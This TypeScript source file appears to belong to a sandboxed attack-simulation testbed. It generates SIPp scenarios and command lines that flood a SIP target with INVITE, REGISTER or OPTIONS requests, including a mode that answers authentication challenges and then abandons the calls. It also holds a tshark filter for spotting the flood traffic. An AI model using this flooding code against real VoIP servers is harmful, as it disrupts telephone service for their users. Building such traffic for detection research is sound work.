/** SIPp as a flooding tool (M-09): scenarios written for it, its command line, and Poisson arrivals in spite of its clockwork. */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Login } from './attacker.ts';

/** What SIPp is to send. */
export interface SippFlood {
  readonly method: 'INVITE' | 'REGISTER' | 'OPTIONS';
  /** One request per entry: Request-URI, and the user and domain of From. */
  readonly calls: readonly { readonly uri: string; readonly user: string; readonly domain: string }[];
  /** Answers the challenge, then abandons what it began; else it leaves every challenge unanswered. */
  readonly login?: Pick<Login, 'user' | 'password'>;
}

/** tshark filter for its requests: the tag that it writes unless told otherwise (M-09); what the proxy forwarded has fewer hops left. */
export const SIPP_FILTER = '!icmp && sip.Request-Line && sip.from.tag contains "SIPpTag" && sip.Max-Forwards == 70';

/**
 * The scenario file. It starts with an exponential pause: SIPp begins calls like a clock, and a clockwork displaced by
 * exponential times much longer than its gaps is a Poisson process (G4).
 */
export function sippScenario(flood: SippFlood, meanPauseMs: number): string {
  const first = request(flood, 1, '');
  const steps =
    flood.login === undefined
      ? [send(first)]
      : [
          send(first),
          '<recv response="100" optional="true"/>',
          '<recv response="407" auth="true"/>',
          send(acknowledgement()),
          send(request(flood, 2, `[authentication username=${flood.login.user} password=${flood.login.password}]\n`)),
        ];
  const pause = `<pause distribution="exponential" mean="${Math.round(meanPauseMs)}"/>`;
  return `<?xml version="1.0" encoding="UTF-8"?>\n<scenario name="flood">\n${[pause, ...steps].join('\n')}\n</scenario>\n`;
}

/** Lines of the injection file that belongs to the scenario. */
export function sippCalls(flood: SippFlood): string {
  return ['SEQUENTIAL', ...flood.calls.map(({ uri, user, domain }) => `${uri};${user};${domain}`), ''].join('\n');
}

function send(message: string): string {
  return `<send><![CDATA[\n\n${message}\n]]></send>`;
}

function head(method: string, cseq: number): string {
  return [
    `${method} [field0] SIP/2.0`,
    'Via: SIP/2.0/[transport] [local_ip]:[local_port];branch=[branch]',
    'From: <sip:[field1]@[field2]>;tag=[pid]SIPpTag00[call_number]',
    method === 'REGISTER' ? 'To: <sip:[field1]@[field2]>' : 'To: <[field0]>',
    'Call-ID: [call_id]',
    `CSeq: ${cseq} ${method}`,
  ].join('\n');
}

function request({ method }: SippFlood, cseq: number, authorization: string): string {
  const contact = `Contact: <sip:[field1]@[local_ip]:[local_port]>\n${authorization}Max-Forwards: 70\nSubject: Performance Test`;
  if (method !== 'INVITE') return `${head(method, cseq)}\n${contact}\nContent-Length: 0\n`;
  const body = [
    'v=0',
    'o=user1 53655765 2353687637 IN IP[local_ip_type] [local_ip]',
    's=-',
    'c=IN IP[media_ip_type] [media_ip]',
    't=0 0',
    'm=audio [media_port] RTP/AVP 0',
    'a=rtpmap:0 PCMU/8000',
  ].join('\n');
  return `${head(method, cseq)}\n${contact}\nContent-Type: application/sdp\nContent-Length: [len]\n\n${body}\n`;
}

function acknowledgement(): string {
  return [
    'ACK [field0] SIP/2.0',
    '[last_Via]',
    'From: <sip:[field1]@[field2]>;tag=[pid]SIPpTag00[call_number]',
    '[last_To]',
    'Call-ID: [call_id]',
    'CSeq: 1 ACK',
    'Max-Forwards: 70',
    'Content-Length: 0',
    '',
  ].join('\n');
}

/** Files and command line of a flood of `perSecond` from `address`, port and all, at `target` (`ip:port`). */
export function sippCommand(flood: SippFlood, from: string, target: string, perSecond: number): string[] {
  // The sandbox has its own /run, which ends with the run.
  const folder = mkdtempSync('/run/sipp-');
  writeFileSync(join(folder, 'flood.xml'), sippScenario(flood, Math.max(300, 5000 / perSecond)));
  writeFileSync(join(folder, 'calls.csv'), sippCalls(flood));
  const rate = perSecond < 1 ? ['-r', '1', '-rp', String(Math.round(1000 / perSecond))] : ['-r', String(perSecond)];
  const count = String(flood.calls.length);
  const files = ['-sf', join(folder, 'flood.xml'), '-inf', join(folder, 'calls.csv')];
  const quiet = ['-nostdin', '-default_behaviors', 'none', '-l', '20000'];
  return ['sipp', target, '-i', from, ...files, ...rate, '-m', count, ...quiet];
}
